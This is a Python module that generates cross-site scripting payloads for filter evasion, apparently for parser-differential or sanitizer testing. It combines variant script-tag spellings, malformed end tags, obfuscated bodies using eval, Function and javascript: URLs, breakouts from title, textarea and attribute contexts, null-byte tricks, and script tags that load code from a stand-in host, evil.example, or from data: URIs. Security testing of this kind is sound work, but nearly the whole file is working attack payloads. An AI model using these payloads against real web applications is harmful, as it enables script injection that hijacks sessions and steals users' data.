"""Script elements: spellings that one parser reads as script and another does not."""

from __future__ import annotations

from collections.abc import Iterator

_STARTS = (
    *("<script>", "<SCRIPT>", "<ScRiPt>", "<script >", "<script\t>", "<script\n>", "<script\f>"),
    *("<script\r\n>", "<script/>", "<script//>", "<script/x>", "<script x>", "<script x=y>"),
    *('<script x=">">', "<script x='>'>", '<script ">">', "<script <b>", "<script a=`>`>"),
    *('<script type="">', "<script type=text/javascript>", "<script type=module>"),
    *("<script language=javascript>", "<script async>", "<script defer>", "<script nomodule=0>"),
    *("<script type=text/ecmascript>", "<script type='text/javascript '>", "<script lang=en>"),
)
_ENDS = (
    *("</SCRIPT>", "</script >", "</script\n>", "</script/>", "</script x>", '</script x=">">'),
    *("</script\t\f>", "</script", ""),
)
_BODIES = (
    *("@run@", ";@run@;", "//\n@run@", "/**/@run@", "<!--\n@run@\n-->", "<!-- x\n@run@//-->"),
    *("-->\n@run@", "var a='<\\/script>';@run@", "if(1<2)@run@", "'<!--<script>';@run@"),
    *("setTimeout('@run@')", "[1].map(()=>@run@)", "window['ra'+'n'](@n@)", "top.x=@run@"),
    *("eval('@run@')", "Function('@run@')()", "\\u0072an(@n@)", "new Promise(()=>@run@)"),
    *("throw @run@", "import('data:text/javascript,@run@')", "label:@run@", "void(@run@)"),
    *("document.write('<img src=x onerror=@run@>')", "location='javascript:@run@'"),
)
_AROUND = (
    *("<scr<script>ipt>@run@</script>", "<scr<b>ipt>@run@</script>", "<<script>@run@</script>"),
    *("<script<script>>@run@</script>", "</script><script>@run@</script>", "</title>{}"),
    *("</textarea>{}", "</style>{}", "</xmp>{}", "</noscript>{}", "</template>{}", "</iframe>{}"),
    *("<b>{}", "<p>{}<p>", "<table>{}</table>", "<table><tr>{}</tr></table>", "<ul><li>{}</ul>"),
    *("<select>{}</select>", "<select><option>{}</select>", "<dl><dt>{}</dl>", "<a href=#>{}</a>"),
    *("<pre>\n{}</pre>", "<code>{}</code>", "<h1>{}</h1>", "<ruby><rt>{}</ruby>", "<body>{}"),
    *("<html>{}", "<head>{}</head>", "</html>{}", "</body>{}", "<frameset>{}</frameset>"),
    *('">{}', "'>{}", "`>{}", "]]>{}", "-->{}", "?>{}", "%>{}", "}}{}", "</p>{}", '\\">{}'),
)


def payloads() -> Iterator[str]:
    for start in _STARTS:
        yield f"{start}@run@</script>"
    for end in _ENDS:
        yield f"<script>@run@{end}"
    for body in _BODIES:
        yield f"<script>{body}</script>"
    for around in _AROUND:
        yield around.replace("{}", "<script>@run@</script>")
    for source in (
        "@load@",
        "//evil.example/load/@n@",
        "data:,@run@",
        "data:text/javascript,@run@",
    ):
        yield f"<script src={source}></script>"
    yield "<script src=@load@>"
    yield "<script src=data:;base64,cmFuKDEp></script><script>@run@</script>"
    yield "\0<scr\0ipt>@run@</script><script\0>@run@</script>"
